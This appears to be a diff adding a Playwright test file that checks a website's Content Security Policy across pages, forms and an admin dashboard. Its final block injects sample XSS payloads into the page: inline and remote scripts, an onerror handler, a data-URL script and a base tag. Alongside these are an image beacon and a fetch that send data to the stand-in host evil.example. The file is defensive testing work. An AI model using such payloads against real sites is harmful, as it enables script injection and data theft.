@@ -1,0 +1,126 @@
+import type { Page } from 'playwright/test';
+import { openDashboard, toast } from './support/admin';
+import { contactForm, fillContact, fillPartnership, partnershipForm } from './support/fill-forms';
+import { putContacts, putPartnerships } from './support/put-records';
+import { publicRoutes } from './support/routes';
+import { expect, test } from './support/test';
+import { newVisitor } from './support/visitor';
+
+// Every browser test fails if a page violates its policy (support/test.ts). These visit all that the policy is about.
+
+for (const colorScheme of ['light', 'dark'] as const) {
+  test.describe(`in the ${colorScheme} scheme`, () => {
+    test.use({ colorScheme, expectedErrors: [/status of 40[14]/] });
+
+    test('no page violates its policy', async ({ page }) => {
+      test.slow();
+      for (const route of [...publicRoutes, '/admin', '/no-such-page', '/blog/no-such-post']) {
+        await page.goto(route, { waitUntil: 'networkidle' });
+        await page.mouse.wheel(0, 10_000);
+        await expect(page.locator('h1')).toBeAttached();
+      }
+    });
+
+    test('no form violates it', async ({ page }) => {
+      await page.goto('/contact');
+      const contact = contactForm(page).getByRole('button', { name: 'Send Message' });
+      await contact.click();
+      await expect(contactForm(page).getByRole('alert').first()).toBeVisible();
+      await fillContact(page, newVisitor('ada'));
+      await contact.click();
+      await expect(toast(page, 'Message Sent!')).toBeVisible();
+      await page.goto('/partner');
+      await fillPartnership(page, newVisitor('grace'));
+      await partnershipForm(page).getByRole('button', { name: 'Submit Partnership Inquiry' }).click();
+      await expect(toast(page, 'Partnership Inquiry Sent!')).toBeVisible();
+    });
+
+    test('no part of the dashboard violates it', async ({ page }) => {
+      const email = newVisitor('ada');
+      await putContacts([{ email }]);
+      await putPartnerships([{ email }]);
+      await openDashboard(page, `/admin?q=${email}&range=custom`);
+      await expect(page.getByText('Live', { exact: true })).toBeVisible();
+      await page.getByLabel('Start Date', { exact: true }).click();
+      await page.getByRole('button', { name: 'Next month' }).click();
+      await page.keyboard.press('Escape');
+      const download = page.waitForEvent('download');
+      await page.getByRole('button', { name: 'Export CSV' }).click();
+      await download;
+      await page.getByRole('tab', { name: /Partnership/ }).click();
+      await page.getByRole('row').filter({ hasText: email }).click();
+      await page.getByRole('button', { name: 'Mark as handled' }).click();
+      await page.getByRole('button', { name: 'Delete this record' }).click();
+      await page.getByRole('button', { name: 'Delete', exact: true }).click();
+      await expect(page.getByText('No partnership records found')).toBeVisible();
+      for (const section of ['Spam', 'Undelivered mail', 'Accounts']) {
+        await page.getByRole('link', { name: section }).click();
+        await page.waitForLoadState('networkidle');
+      }
+      await page.getByRole('button', { name: 'Logout' }).click();
+      await expect(page.getByRole('button', { name: 'Sign In' })).toBeVisible();
+    });
+  });
+}
+
+test.describe('what an attacker has brought into a page', () => {
+  test.use({ expectedErrors: [/Content.Security.Policy/, /Refused to connect/] });
+
+  /** Opens the home page with more HTML in it, and returns what the policy has stopped. */
+  async function openWith(page: Page, html: string): Promise<string[]> {
+    const violations: string[] = [];
+    page.on('console', (message) => {
+      const [, directive] = /^Content-Security-Policy: (\S+)/.exec(message.text()) ?? [];
+      if (directive) violations.push(directive);
+    });
+    await page.route('/', async (route) => {
+      const response = await route.fetch();
+      const body = (await response.text()).replace('</main>', `${html}</main>`);
+      await route.fulfill({ response, body });
+    });
+    await page.goto('/', { waitUntil: 'networkidle' });
+    return violations;
+  }
+
+  const attacked = (page: Page) => page.evaluate(() => 'attacked' in window);
+
+  test('does not run, whatever way it is written', async ({ page }) => {
+    const violations = await openWith(
+      page,
+      `<script>window.attacked = true</script>
+       <script type="module">window.attacked = true</script>
+       <img src="/none.png" alt="" onerror="window.attacked = true">
+       <script src="https://evil.example/attack.js"></script>
+       <script src="data:text/javascript,window.attacked=true"></script>
+       <style>body { background: url(https://evil.example/) }</style>
+       <base href="https://evil.example/">`,
+    );
+    expect(await attacked(page)).toBe(false);
+    expect(violations.sort()).toEqual([
+      'base-uri',
+      'script-src-attr',
+      'script-src-elem',
+      'script-src-elem',
+      'script-src-elem',
+      'script-src-elem',
+      'style-src-elem',
+    ]);
+  });
+
+  test('does not run when it comes later', async ({ page }) => {
+    const violations = await openWith(page, '');
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'window.attacked = true';
+      document.body.append(script);
+    });
+    expect(await attacked(page)).toBe(false);
+    await expect.poll(() => violations).toEqual(['script-src-elem']);
+  });
+
+  test('sends nothing to another site', async ({ page }) => {
+    const violations = await openWith(page, '<img src="https://evil.example/?stolen" alt="">');
+    await page.evaluate(() => fetch('https://evil.example/').catch(() => undefined));
+    await expect.poll(() => violations.sort()).toEqual(['connect-src', 'img-src']);
+  });
+});
